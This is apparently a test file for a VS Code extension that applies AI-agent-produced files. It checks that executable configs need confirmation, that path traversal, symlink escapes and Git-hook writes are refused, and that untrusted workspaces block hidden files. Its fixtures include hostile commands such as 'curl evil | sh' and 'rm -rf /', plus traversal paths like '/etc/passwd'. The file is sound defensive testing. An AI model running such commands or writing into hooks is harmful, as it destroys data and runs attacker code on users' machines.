import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readdir, rm, symlink } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { emulator } from './control';
import { Desk } from './desk';
import { taskWith } from './service';

describe('applying what the agent made safely', () => {
  let desk: Desk;
  const apply = (taskId: string, paths?: string | readonly string[]): Thenable<unknown> =>
    vscode.commands.executeCommand('sigmic.applyArtifact', taskId, paths);

  beforeEach(async () => {
    await emulator.reset();
    await vscode.extensions.getExtension('sigmic.sigmic')?.activate();
    desk = new Desk();
    await desk.sitDown();
  });
  afterEach(() => desk.leave());

  it('asks before it writes what programs obey, naming each, and writes nothing unless it is answered', async () => {
    await desk.put('package.json', '{"scripts":{"test":"mocha"}}\n');
    const id = await taskWith({
      '.vscode/tasks.json': '{}',
      'package.json': '{"scripts":{"test":"curl evil | sh"}}\n',
      Makefile: 'all:\n\ttrue\n',
      'plain.txt': 'plain\n',
      '.github/workflows/ci.yml': 'on: push\n',
    });
    assert.deepEqual(await apply(id), []);
    assert.equal(desk.asked.length, 1);
    assert.match(desk.asked[0]?.words ?? '', /Apply these 4 files too\?/);
    for (const path of ['.vscode/tasks.json', 'package.json', 'Makefile', '.github/workflows/ci.yml'])
      assert.ok(desk.asked[0]?.detail?.includes(`${path}: `), path);
    assert.equal((await readdir(desk.root)).includes('plain.txt'), false);
    desk.answer = 'Leave These Out';
    assert.deepEqual(await apply(id), ['plain.txt']);
    assert.equal((await readdir(desk.root)).includes('Makefile'), false);
    assert.match(await desk.text('package.json'), /mocha/);
    desk.answer = 'Apply All';
    assert.equal(((await apply(id)) as readonly string[]).length, 4);
    assert.equal(await desk.text('.vscode/tasks.json'), '{}');
    assert.match(await desk.text('package.json'), /curl evil/);
    await rm(desk.at('package.json'));
  });

  it('never writes outside of the workspace or into Git, whatever the server lists', async () => {
    const outside = await mkdtemp(join(tmpdir(), 'sigmic-outside-'));
    try {
      await mkdir(desk.at('real/.git/hooks'), { recursive: true });
      await symlink(outside, desk.at('out'));
      await symlink(join(outside, 'missing.txt'), desk.at('dangling.txt'));
      await symlink(desk.at('real/.git/hooks'), desk.at('hooks'));
      await desk.put('README.md', 'mine\n');
      await desk.put('file', 'a file\n');
      const id = await taskWith({ 'ok.txt': 'ok\n' });
      const paths = [
        '../escape.txt',
        '/etc/passwd',
        '//server/share',
        'C:/windows/x',
        'a/../../b.txt',
        '..\\x.txt',
        'nul.txt',
        'a:stream',
        '.git/hooks/pre-commit',
        'sub/.GIT/config',
        'out/x.txt',
        'dangling.txt',
        'hooks/pre-push',
        'readme.md',
        'file/below.txt',
        'real',
        'ok.txt',
      ];
      const files = paths.map((path) => ({
        name: path,
        path,
        size: 3,
        modifiedAt: new Date().toISOString(),
      }));
      await emulator.fault({
        match: { method: 'GET', path: `${id}/artifacts$` },
        respond: { status: 200, body: { success: true, data: { files } } },
      });
      await emulator.fault({
        match: { method: 'GET', path: `${id}/artifacts/download` },
        respond: { status: 200, body: 'ok\n' },
      });
      assert.deepEqual(await apply(id), ['ok.txt']);
      assert.equal(await desk.text('ok.txt'), 'ok\n');
      assert.deepEqual(await readdir(outside), []);
      assert.deepEqual(await readdir(desk.at('real/.git/hooks')), []);
      assert.equal(await desk.text('README.md'), 'mine\n');
      const made = await desk.made();
      assert.deepEqual(made, ['README.md', 'dangling.txt', 'file', 'hooks', 'ok.txt', 'out', 'real']);
      assert.match(
        desk.asked.map(({ words }) => words).join(),
        /^\d+ files not applied: "etc\/passwd" has an absolute path;/,
      );
    } finally {
      await rm(outside, { recursive: true });
    }
  });

  it('writes nothing that programs obey into a workspace that is not trusted', async () => {
    const id = await taskWith({ '.envrc': 'rm -rf /\n', 'plain.txt': 'plain\n' });
    desk.pretend('isTrusted', false);
    desk.answer = 'Apply All';
    assert.deepEqual(await apply(id), ['plain.txt']);
    assert.deepEqual(
      desk.asked.map(({ words }) => words),
      ['1 file not applied: ".envrc" needs a trusted workspace (a hidden file, which programs may obey).'],
    );
    assert.equal((await readdir(desk.root)).includes('.envrc'), false);
  });
});
